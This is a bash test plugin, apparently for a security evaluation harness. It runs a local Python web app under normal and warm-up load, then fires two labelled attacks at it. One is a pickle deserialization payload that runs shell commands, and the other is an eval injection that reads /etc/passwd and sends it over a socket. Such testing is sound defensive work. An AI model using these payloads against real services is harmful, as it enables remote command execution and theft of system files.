# shellcheck shell=bash
# SPDX-License-Identifier: GPL-3.0-or-later
# a Python web application: threads, an SQLite file, uploads, a child at times

PYTHON_PORT=18082
PYTHON_URL=http://127.0.0.1:$PYTHON_PORT

srv_packages() {
	echo python3-minimal libpython3-stdlib apache2-utils curl
}

srv_prepare() {
	mkdir -p "$W/up"
	cp "$EVAL_SRC/attacks/application.py" "$W/"
	head -c 3000 /dev/zero | tr '\0' 'a' >"$W/body1"
	head -c 90000 /dev/zero | tr '\0' 'b' >"$W/body2"
	chown -R www-data: "$W"
}

srv_start() {
	scoped www-data /usr/bin/python3 "$W/application.py" "$PYTHON_PORT" "$W"
	wait_for 10 port_open "$PYTHON_PORT"
}

srv_stop() {
	scope_end
}

python_get() {	# python_get REQUESTS CONCURRENCY PATH [AB OPTION…]
	local n=$1 c=$2 path=$3
	shift 3
	ab -q -n "$n" -c "$c" "$@" "$PYTHON_URL$path" >/dev/null 2>&1
}

srv_learn() {
	local r=$1
	python_get 200 "$(pick "$r" a 1 3 8)" "/page?rows=$(pick "$r" b 5 90)"
	python_get 80 "$(pick "$r" c 1 4)" "/add?text=$(pick "$r" d a bb ccc)"
	python_get 40 "$(pick "$r" e 1 3)" /upload \
		-p "$W/body$(pick "$r" f 1 2)" -T text/plain
	python_get 20 2 /none
	python_get 4 1 /disk
	curl -s "$PYTHON_URL/export" -o /dev/null
	[ $((r % 9)) -ne 4 ] || { srv_stop; srv_start; }
}

srv_normal() {
	python_get 250 6 "/page?rows=40"
	python_get 60 5 "/add?text=other"
	python_get 50 4 /upload -p "$W/body2" -T text/plain
	python_get 10 1 /none/at/all
	python_get 6 2 /disk
	curl -s "$PYTHON_URL/export" -o /dev/null
}

srv_warm() {
	python_get 60 3 /page
	python_get 10 2 "/add?text=w"
	python_get 2 1 /disk
}

srv_attacks() {
	echo pickle-command eval-send
}

attack_pickle_command() {	# data that runs a command when it is unpacked
	mark
	curl -s "$PYTHON_URL/restore" \
		--data-binary $'cposix\nsystem\n(S\'id; uname -a\'\ntR.'
}

attack_eval_send() {	# an expression that reads the users and sends them off
	mark
	curl -sG "$PYTHON_URL/sum" --data-urlencode \
		"of=__import__('socket').create_connection(('127.0.0.1',$PYTHON_PORT)).send(open('/etc/passwd','rb').read(64))"
}
